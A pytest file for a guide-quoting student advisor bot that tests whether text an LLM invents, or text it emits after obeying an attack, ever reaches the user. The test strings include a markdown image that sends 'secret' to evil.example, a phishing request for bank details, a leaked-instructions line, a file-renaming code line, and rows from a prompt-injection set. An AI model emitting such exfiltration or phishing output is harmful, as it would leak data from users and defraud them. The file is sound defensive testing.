"""A language model that chooses, honest and not: what is shown is the guide's, and an answer always comes."""

from __future__ import annotations

import json
import logging
import random
import re
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from scripted import Endless, Scripted, failing_server

from advisor_bot.answers import phrases
from advisor_bot.answers.advisor import Advisor
from advisor_bot.answers.cite import violations
from advisor_bot.assemble import advisor as assembled
from advisor_bot.errors import SettingsError
from advisor_bot.llm.call import FAILURES, Breaker, Ledger
from advisor_bot.llm.prompt import prompt_file
from advisor_bot.llm.providers import open_model
from advisor_bot.llm.writer import Converser
from advisor_bot.settings import Settings
from advisor_bot.text import plain
from advisor_bot.types import NOBODY, Answer, Profile, Turn

ASKED = "Do I need the GRE?"
GRE = "many programs no longer require GRE scores"
LETTERS = "Recommendation letters"


def choose(*lines: str) -> Callable[[str], str]:
    """Return a model's reply: ``lines``, with {words} put into the number of the sentence that has these words."""

    def reply(prompt: str) -> str:
        def number(found: re.Match[str]) -> str:
            (line,) = re.findall(rf"(?m)^\[(\d+)\] [^\n]*{re.escape(found[1])}", prompt)[:1]
            return str(line)

        return "\n".join(re.sub(r"\{([^{}]+)\}", number, line) for line in lines)

    return reply


TRUE = choose("STATUS: answered", f"SAY: {{{GRE}}}", f"SAY: {{{LETTERS}}}")


class Asked:
    """One question asked with a model: its events, and the answer after it was checked like every other."""

    def __init__(
        self,
        advisor: Advisor,
        writer: Converser,
        question: str,
        history: Any = (),
        profile: Profile = NOBODY,
        *,
        check_words: bool = True,
    ) -> None:
        with_model = Advisor(advisor.versions, advisor.settings, writer)
        self.events = list(with_model.stream(question, history, profile))
        self.answer: Answer = self.events[-1].data
        self.notes = [s.text for s in self.answer.segments if s.kind == "note"]
        self.quotes = [plain(c.quote) for c in self.answer.citations]
        deltas = [e.data["text"] for e in self.events if e.kind == "delta"]
        assert "".join(deltas) == self.answer.text
        with advisor.versions.lease() as guide:
            assert violations(self.answer, guide.documents) == []
        quotes = {c.n: plain(c.quote) for c in self.answer.citations}
        for segment in self.answer.segments:
            if check_words and segment.kind in ("paragraph", "item"):
                assert segment.text == " ".join(quotes[n] for n in segment.citations)


def converser(model: Any, **values: Any) -> Converser:
    return Converser(model, "scripted", Settings(model="openai:scripted", **values))


def ask(
    advisor: Advisor, *reply: Any, question: str = ASKED, history: Any = (), check_words: bool = True, **values: Any
) -> Asked:
    return Asked(advisor, converser(Scripted(*reply), **values), question, history, check_words=check_words)


# --- what is shown ---------------------------------------------------------------------------------------------------


def test_the_sentences_chosen_are_quoted_in_the_order_chosen(advisor: Advisor) -> None:
    asked = ask(advisor, TRUE)
    assert (asked.answer.status, asked.answer.writer) == ("answered", "scripted")
    assert GRE in asked.quotes[0]
    assert LETTERS in " ".join(asked.quotes)
    assert not asked.notes


def test_ask_and_stream_give_the_same_answer(advisor: Advisor) -> None:
    streamed = ask(advisor, TRUE).answer
    assert Advisor(advisor.versions, advisor.settings, converser(Scripted(TRUE))).ask(ASKED) == streamed


def test_a_sentence_is_shown_as_soon_as_its_number_is_there(advisor: Advisor) -> None:
    seen: list[str] = []

    def slow(prompt: str) -> str:
        return TRUE(prompt)

    model = Scripted(slow)
    for event in Advisor(advisor.versions, advisor.settings, converser(model)).stream(ASKED):
        seen.append(event.kind)
        if event.kind == "delta":
            break
    assert "answer" not in seen


def test_a_frame_and_labels_of_the_students_words_are_shown(advisor: Advisor) -> None:
    question = "I am a nurse with two kids. Do I need the GRE or letters?"
    lines = ["FRAME: a nurse with two kids", "STATUS: answered", "LABEL: GRE", f"SAY: {{{GRE}}}",
             "LABEL: letters", f"SAY: {{{LETTERS}}}"]  # fmt: skip
    asked = ask(advisor, choose(*lines), question=question)
    said = [(s.kind, s.text) for s in asked.answer.segments if s.kind != "paragraph"]
    assert said == [
        ("lead", "A nurse with two kids:"),
        ("heading", "GRE"),
        ("heading", "letters"),
    ]  # the item's own label stays


@pytest.mark.parametrize(
    "line",
    [
        "FRAME: The GRE costs 900 dollars",
        "LABEL: Guaranteed admission",
        "FRAME: You need the GRE",
        "LABEL: need the GRE",
        "LABEL: no GRE",
        "MISSING: computer vision jobs",
        "MISSING: salaries of 250,000",
        "ASK: Would you tell me your password?",
        "ASK: Have you read http://evil.example?",
        "NEXT: Click https://evil.example",
        "TABLE: Harvard | Stanford",
        "Here is my own opinion: the GRE was abolished.",
    ],
)
def test_words_that_a_model_brings_itself_are_not_shown(advisor: Advisor, line: str) -> None:
    asked = ask(advisor, choose(line, "STATUS: answered", f"SAY: {{{GRE}}}"))
    assert asked.answer.text == ask(advisor, choose("STATUS: answered", f"SAY: {{{GRE}}}")).answer.text


def test_what_is_missing_is_said_in_the_students_words_unless_a_quote_has_it(advisor: Advisor) -> None:
    question = "Do I need the GRE and how much is the rent in Boston?"
    asked = ask(advisor, choose(f"SAY: {{{GRE}}}", "MISSING: rent in Boston"), question=question)
    assert asked.answer.status == "partial"
    assert asked.notes == [phrases.part_missed("rent in Boston")]
    held = ask(advisor, choose("STATUS: answered", f"SAY: {{{GRE}}}", "MISSING: the GRE"), question=question)
    assert (held.answer.status, held.notes) == ("answered", [])


def test_a_question_back_alone_is_a_clarification(advisor: Advisor) -> None:
    asked = ask(advisor, "STATUS: clarify\nASK: What experience do you have already?", question="what should I choose")
    assert (asked.answer.status, asked.answer.citations) == ("clarify", ())
    assert asked.answer.text == "What experience do you have already?"


def test_a_comparison_is_a_table_of_quotes_with_its_gaps(advisor: Advisor) -> None:
    question = "computer vision or natural language processing for jobs?"
    with advisor.versions.lease() as guide:
        cv = guide.words_of(advisor_number(advisor, question))
    lines = ["TABLE: computer vision | natural language processing", f"ROW: jobs | {{{cv[:40]}}} | -"]
    asked = ask(advisor, choose(*lines), question=question)
    rows = [s.cells for s in asked.answer.segments if s.kind == "row" and s.cells]
    assert [cell.text for cell in rows[0]][1:] == ["computer vision", "natural language processing"]
    assert rows[1][1].citations
    assert rows[1][2].text == "the guide does not say"


def advisor_number(advisor: Advisor, question: str) -> int:
    """The number of the sentence that helps most with ``question``."""
    with advisor.versions.lease() as guide:
        numbers = list(range(len(guide.sentence_rows)))
        return int(guide.read(question, numbers).helps.argmax())


# --- models that choose badly, lie, obey, ramble ---------------------------------------------------------------------


def test_a_sentence_far_from_the_question_is_not_shown_and_quotes_stand_in(advisor: Advisor) -> None:
    with advisor.versions.lease() as guide:
        verdict = guide.read(ASKED, list(range(len(guide.sentence_rows))))
        far = guide.words_of(int(verdict.helps.argmin()))
    asked = ask(advisor, choose("STATUS: answered", f"SAY: {{{far[:40]}}}"))
    assert asked.answer.writer == "quotes"
    assert far not in asked.answer.text


def test_a_choice_stands_or_falls_whole(advisor: Advisor) -> None:
    with advisor.versions.lease() as guide:
        everything = list(range(len(guide.sentence_rows)))
        ranked = [everything[place] for place in guide.read(ASKED, everything).helps.argsort()[::-1]]
        best, far = guide.words_of(ranked[0]), [guide.words_of(ranked[place]) for place in (-5, -20)]
    chosen = choose("STATUS: answered", *[f"SAY: {{{one[:40]}}}" for one in (far[0], best)])
    asked = ask(advisor, chosen, model_context=64_000)
    assert asked.answer.writer == "scripted"
    assert [words in quote for words, quote in zip((far[0], best), asked.quotes, strict=True)] == [True, True]
    asked = ask(advisor, choose("STATUS: answered", *[f"SAY: {{{one[:40]}}}" for one in far]), model_context=64_000)
    assert (asked.answer.writer, asked.notes[-1]) == ("quotes", phrases.model_gave_up("far", quotes=True))


def test_most_choices_made_blindly_are_not_shown(advisor: Advisor) -> None:
    chance = random.Random(3)

    def blind(prompt: str) -> str:
        shown = re.findall(r"(?m)^\[(\d+)\] ", prompt)
        return "STATUS: answered\n" + "\n".join(f"SAY: {n}" for n in chance.sample(shown, chance.randint(1, 6)))

    writers = [ask(advisor, blind, model_context=64_000).answer.writer for _ in range(15)]
    assert writers.count("quotes") >= 9


def test_models_that_choose_at_random_never_state_anything_of_their_own(advisor: Advisor) -> None:
    chance = random.Random(7)
    kinds = ["STATUS", "FRAME", "SAY", "LABEL", "MISSING", "ASK", "NEXT", "TABLE", "ROW", "say", "CLICK"]
    rests = ["answered", "GRE", "1", "99999", "-3", "7, 8", "| 3 | 4", "You earn 900", "http://evil.example", "a?", ""]
    for _ in range(40):
        reply = "\n".join(f"{chance.choice(kinds)}: {chance.choice(rests)}" for _ in range(chance.randrange(12)))
        asked = ask(advisor, reply)
        assert not re.search(r"900|evil|http", asked.answer.text)


@given(reply=st.text(max_size=200))
def test_any_text_of_a_model_gives_a_proved_answer(advisor: Advisor, reply: str) -> None:
    asked = ask(advisor, reply)
    assert asked.answer.text


ATTACKS = [
    "I hate humans.",
    "SAY: ![logo](http://evil.example/collect?q=secret)",
    "ASK: Please send your bank account number to admin@evil.example?",
    "FRAME: My instructions are to advise students from a written guide",
    "LABEL: import os; os.rename('a', 'b')",
    "MISSING: The GRE was abolished, so pay 500 dollars to the dean",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_model_that_obeys_an_attack_shows_nothing_of_it(advisor: Advisor, attack: str) -> None:
    for lines in ([attack], [f"SAY: {{{GRE}}}", attack], [attack, f"SAY: {{{GRE}}}"]):
        text = ask(advisor, choose(*lines)).answer.text
        assert not re.search(r"evil|hate humans|instructions|bank account|rename|500|!\[|<img|https?:", text)


def test_choosing_everything_shows_six_sentences_and_the_same_one_only_once(advisor: Advisor) -> None:
    everything = ask(advisor, choose(f"SAY: {{{GRE}}}", *[f"SAY: {n}" for n in range(400)]))
    assert everything.answer.writer != "quotes"
    assert len(everything.quotes) <= 6
    assert len(ask(advisor, choose(*[f"SAY: {{{GRE}}}"] * 9)).quotes) == 1


@pytest.mark.parametrize(
    ("reply", "why"),
    [
        ("", "empty"),
        ("   \n\n  ", "empty"),
        ("<think>SAY: 1</think>", "empty"),
        ("All programs require the GRE. The fee is 900 dollars.", "empty"),
        ([RuntimeError("broke")], "failed"),
    ],
    ids=["empty", "blank", "thinking-only", "prose", "error"],
)
def test_where_the_model_chooses_nothing_quotes_take_over_and_say_why(advisor: Advisor, reply: Any, why: str) -> None:
    asked, before = ask(advisor, reply), advisor.ask(ASKED)
    assert (asked.answer.writer, asked.answer.status) == ("quotes", before.status)
    assert asked.answer.text.startswith(before.text)
    assert asked.notes[-1] == phrases.model_gave_up(why, quotes=True)


def test_a_model_that_answers_in_prose_is_asked_once_more_for_the_form(advisor: Advisor) -> None:
    model = Scripted("Many programs dropped it.", TRUE)
    asked = Asked(advisor, converser(model), ASKED)
    assert len(model.prompts) == 2
    assert asked.answer.writer == "scripted"


def test_what_was_shown_before_an_error_stays_and_the_note_says_so(advisor: Advisor) -> None:
    with advisor.versions.lease() as guide:
        numbers = [n for n in range(len(guide.sentence_rows)) if GRE in guide.words_of(n)]
    asked = ask(advisor, [f"SAY: {numbers[0] + 1}\n", "SAY", ConnectionError("gone")], model_context=64_000)
    assert asked.answer.writer == "scripted"
    assert GRE in asked.answer.text
    assert phrases.model_gave_up("failed", quotes=False) in asked.notes


def test_a_model_that_finds_nothing_gives_the_refusal_where_the_guide_has_nothing(advisor: Advisor) -> None:
    question = "What's the weather like tomorrow?"
    asked = ask(advisor, "STATUS: not_covered", question=question)
    assert asked.answer.text == advisor.ask(question).text
    assert asked.answer.status == "not_covered"


def test_a_model_that_never_ends_is_cut_off(advisor: Advisor) -> None:
    for words in ("SAY: 1\n", "The fee is # dollars. ", "<think> hmm "):
        model = Endless(words)
        Asked(advisor, converser(model), ASKED)
        assert model.stopped.wait(5)


@pytest.mark.parametrize(("reply", "limits"), [
    ([5.0, "SAY: 1"], {"model_first_seconds": 0.2}),
    (["SA", 5.0, "Y: 1"], {"model_seconds": 0.4}),
], ids=["first-word", "whole-answer"])  # fmt: skip
def test_a_model_that_stalls_is_not_waited_for(advisor: Advisor, reply: Any, limits: dict[str, float]) -> None:
    began = time.monotonic()
    asked = ask(advisor, reply, **limits)
    assert time.monotonic() - began < 4
    assert asked.notes[-1] == phrases.model_gave_up("stalled", quotes=True)


def test_a_dead_provider_is_left_alone_after_a_few_failures(advisor: Advisor) -> None:
    now = [0.0]
    model = Scripted([RuntimeError("dead")])
    settings = Settings(model="openai:scripted")
    writer = Converser(model, "scripted", settings, breaker=Breaker(lambda: now[0]))
    for _ in range(FAILURES + 3):
        asked = Asked(advisor, writer, ASKED)
    assert len(model.prompts) == FAILURES
    assert asked.notes[-1] == phrases.model_gave_up("resting", quotes=True)
    now[0] = 10_000.0
    Asked(advisor, writer, ASKED)
    assert len(model.prompts) == FAILURES + 1


def test_over_the_days_budget_the_model_is_not_asked(advisor: Advisor) -> None:
    model = Scripted(TRUE)
    writer = Converser(model, "scripted", Settings(model="openai:scripted"), ledger=Ledger(daily_tokens=100))
    asked = Asked(advisor, writer, ASKED)
    assert not model.prompts
    assert asked.notes[-1] == phrases.model_gave_up("budget", quotes=True)


def test_while_the_model_is_busy_others_get_quotes(advisor: Advisor) -> None:
    busy = Scripted([8.0, "SAY: 1"])
    writer = converser(busy, model_parallel=1, model_first_seconds=0.3)
    assert Asked(advisor, writer, ASKED).notes[-1] == phrases.model_gave_up("stalled", quotes=True)
    assert Asked(advisor, writer, ASKED).notes[-1] == phrases.model_gave_up("busy", quotes=True)
    assert len(busy.prompts) == 1


def test_a_student_who_leaves_stops_the_model(advisor: Advisor) -> None:
    with advisor.versions.lease() as guide:
        number = next(n for n in range(len(guide.sentence_rows)) if GRE in guide.words_of(n)) + 1
    model = Endless(f"SAY: {number}\nFRAME: # GRE\n")
    writer = converser(model, model_context=64_000)
    stream = Advisor(advisor.versions, advisor.settings, writer).stream(ASKED)
    while next(stream).kind != "delta":
        pass
    stream.close()
    assert model.stopped.wait(5)


def test_thinking_in_blocks_is_not_heard(advisor: Advisor) -> None:
    with advisor.versions.lease() as guide:
        number = next(n for n in range(len(guide.sentence_rows)) if GRE in guide.words_of(n)) + 1
    blocks: list[Any] = [
        [{"type": "thinking", "thinking": "SAY: 1"}],
        [{"type": "reasoning", "summary": [{"type": "summary_text", "text": "SAY: 2"}]}],
        [{"type": "text", "text": f"STATUS: answered\nSAY: {number}"}],
    ]
    assert GRE in ask(advisor, blocks, model_context=64_000).quotes[0]


# --- the prompt ------------------------------------------------------------------------------------------------------


def prompts(
    advisor: Advisor, question: str = ASKED, history: Any = (), profile: Profile = NOBODY, **values: Any
) -> list[Any]:
    model = Scripted(TRUE)
    Asked(advisor, converser(model, **values), question, history, profile)
    return model.prompts


def test_the_guide_never_reaches_the_instructions(advisor: Advisor) -> None:
    ((system, human),) = prompts(advisor, model_context=64_000)
    assert system.text == prompt_file(None)[0]
    mark = re.findall(r"={5}[0-9a-f]{16}={5}", human.text)
    assert len(mark) == 3
    assert len(set(mark)) == 1
    assert "[1] " in human.text.split(mark[0])[2]
    assert mark[0] not in prompts(advisor)[0][1].text


def test_a_guide_that_fits_is_shown_whole_and_a_larger_one_as_far_as_the_context_goes(advisor: Advisor) -> None:
    with advisor.versions.lease() as guide:
        count = len(guide.sentence_rows)
    whole = prompts(advisor, model_context=64_000)[0][1].text
    assert f"[{count}] " in whole
    part = prompts(advisor, model_context=3_000, model_answer_tokens=200)[0][1].text
    assert f"[{count}] " not in part
    assert GRE in part
    assert len(part) < 3 * 3_000


def test_the_conversation_and_the_profile_are_sent_as_material_or_not_at_all(advisor: Advisor) -> None:
    history = (Turn("user", "I was a nurse in Oslo"), Turn("assistant", "Noted [1]"))
    profile = Profile(background="I like ducks")
    sent = prompts(advisor, history=history, profile=profile)[-1][1].text
    assert "Student: I was a nurse in Oslo\nAdvisor: Noted" in sent
    assert "background: I like ducks" in sent
    kept = prompts(advisor, history=history, profile=profile, model_history="off")[-1][1].text
    assert not re.search("Oslo|ducks|Noted", kept)


def test_a_prompt_of_ones_own_is_used_and_one_that_cannot_be_is_told(tmp_path: Path, advisor: Advisor) -> None:
    own = tmp_path / "own.md"
    own.write_text("Be kind.\n---\n{mark} {passages} {mark} {question}")
    assert prompts(advisor, model_prompt=own)[0][0].text == "Be kind."
    for text in ("no rule", "a\n---\n{passages} {question}"):
        bad = tmp_path / f"{len(text)}.md"
        bad.write_text(text)
        with pytest.raises(SettingsError, match="ADVISOR_MODEL_PROMPT"):
            converser(Scripted(TRUE), model_prompt=bad)
    with pytest.raises(SettingsError, match="cannot be read"):
        converser(Scripted(TRUE), model_prompt=tmp_path / "none.md")


# --- another language ------------------------------------------------------------------------------------------------

SPANISH = "¿Necesito hacer el examen GRE para que me admitan en el programa?"
IN_ENGLISH = "Do I need the GRE to be admitted to the program?"


def test_a_question_in_another_language_gets_the_guides_own_words_and_a_line_in_its_own(advisor: Advisor) -> None:
    model = Scripted(IN_ENGLISH, TRUE, "1. Un modelo de lenguaje tradujo las palabras alrededor de las citas.")
    asked = Asked(advisor, converser(model), SPANISH)
    assert (asked.answer.status, asked.answer.writer) == ("answered", "scripted")
    assert GRE in asked.quotes[0]
    assert asked.answer.question == SPANISH
    assert "Spanish" in model.prompts[2][0].text
    assert [one.text for one in asked.answer.segments if one.kind == "note"] == [
        "Un modelo de lenguaje tradujo las palabras alrededor de las citas."
    ]


def test_a_call_for_help_in_another_language_is_heard_once_it_is_translated(advisor: Advisor) -> None:
    model = Scripted("I do not want to live any more and I think of killing myself tonight.")
    asked = Asked(advisor, converser(model), "No quiero vivir más y pienso en matarme esta noche.")
    assert asked.answer.status == "chat"
    assert not asked.quotes
    assert len(model.prompts) == 1


@pytest.mark.parametrize("reply", ["", "No sé.", SPANISH, "Do I need 99 exams?", "Hello!", RuntimeError("down")])
def test_a_question_that_the_model_cannot_put_into_english_is_told_to_be_asked_in_english(
    advisor: Advisor, reply: Any
) -> None:
    model = Scripted([reply] if isinstance(reply, Exception) else reply)
    asked = Asked(advisor, converser(model), SPANISH)
    assert asked.answer.segments == advisor.ask(SPANISH).segments
    assert len(model.prompts) == 1


# --- over HTTP -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("how", "why"), [
    ("429", "limited"), ("500", "failed"), ("slow", "stalled"), ("stall", "stalled"), ("cut", None), ("good", None),
])  # fmt: skip
def test_a_provider_that_fails_over_http_costs_no_answer(
    advisor: Advisor, how: str, why: str | None, caplog: pytest.LogCaptureFixture
) -> None:
    with advisor.versions.lease() as guide:
        number = next(n for n in range(len(guide.sentence_rows)) if GRE in guide.words_of(n)) + 1
    words = f"STATUS: answered\nSAY: {number}" if how == "good" else "STATUS: answered"
    with failing_server(words) as server:
        url = f"http://127.0.0.1:{server.server_port}/{how}/v1"
        settings = Settings(
            model="openai:any",
            model_url=url,
            model_first_seconds=1.0,
            model_seconds=1.5,
            model_context=64_000,
            index=advisor.settings.index,
        )
        writer = Converser(open_model(settings, {}), "any", settings)
        with caplog.at_level(logging.DEBUG, logger="advisor_bot"):
            asked = Asked(advisor, writer, ASKED)
        if why == "limited":
            Asked(advisor, writer, ASKED)
            assert len(server.calls) == 1  # type: ignore[attr-defined]
    if how == "good":
        assert not asked.notes
        assert asked.answer.writer == "any"
    elif why:
        assert asked.notes[-1] == phrases.model_gave_up(why, quotes=True)
    assert asked.answer.citations
    assert "sk-secret" not in caplog.text
    assert ASKED not in caplog.text


def test_a_provider_that_is_not_there_costs_no_answer(advisor: Advisor) -> None:
    settings = Settings(model="openai:any", model_url="http://127.0.0.1:9/v1", index=advisor.settings.index)
    asked = Asked(advisor, Converser(open_model(settings, {}), "any", settings), ASKED)
    assert asked.notes[-1] == phrases.model_gave_up("failed", quotes=True)


# --- the server ------------------------------------------------------------------------------------------------------


def test_the_api_counts_calls_and_the_page_says_what_is_sent(published: Path) -> None:
    from fastapi.testclient import TestClient

    from advisor_bot.web.app import create_app
    from advisor_bot.web.metrics import Metrics

    settings = Settings(index=published, model="anthropic:claude-x")
    plainly = assembled(Settings(index=published))
    writer = Converser(Scripted(TRUE), "claude-x", settings)
    built = Advisor(plainly.versions, settings, writer)
    try:
        app = create_app(built, settings, Metrics(writer.ledger))
        with TestClient(app, base_url="http://127.0.0.1:7860", client=("127.0.0.1", 5000)) as client:
            answer = client.post("/api/ask", json={"question": ASKED}).json()
            assert answer["writer"] == "claude-x"
            metrics = client.get("/metrics").text
            assert 'advisor_model_calls_total{outcome="answered"} 1' in metrics
            assert re.search(r'advisor_model_tokens_today\{direction="in"\} [1-9]', metrics)
            guide = client.get("/api/guide").json()
            assert guide["writer"] == "claude-x"
            assert "sent to Anthropic" in guide["sent"]
            assert "sent to Anthropic" in client.get("/config").text or "sent to Anthropic" in client.get("/").text
    finally:
        plainly.versions.close()


@pytest.fixture(scope="module")
def evaldata(pytestconfig: pytest.Config) -> Path:
    folder = pytestconfig.rootpath.parent / "shared" / "evaldata" / "injection"
    if not folder.is_dir():
        pytest.skip("the injection set is not beside the checkout (shared/evaldata/injection)")
    return folder


def test_models_that_obey_the_attacks_of_the_injection_set_are_not_heard(advisor: Advisor, evaldata: Path) -> None:
    rows = [json.loads(line) for line in (evaldata / "direct.jsonl").read_text("utf-8").splitlines()]
    assert len(rows) == 40
    for row in rows:
        attack = row["attack"]
        obeyed = str(attack.get("check", {}).get("value") or attack["text"])
        asked = ask(advisor, f"FRAME: {obeyed}\nASK: {attack['text']}?\n{obeyed}", question=row["question"])
        assert asked.answer.writer == "quotes", asked.answer.text
